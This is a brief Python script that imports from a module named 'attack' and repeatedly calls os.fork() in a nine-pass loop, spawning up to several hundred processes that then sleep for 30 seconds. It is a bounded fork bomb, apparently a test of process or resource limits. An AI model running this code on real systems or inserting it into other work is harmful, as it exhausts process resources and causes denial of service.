import os
import time

from attack import *

for _ in range(9):
    try:
        os.fork()
    except OSError:
        break
time.sleep(30)
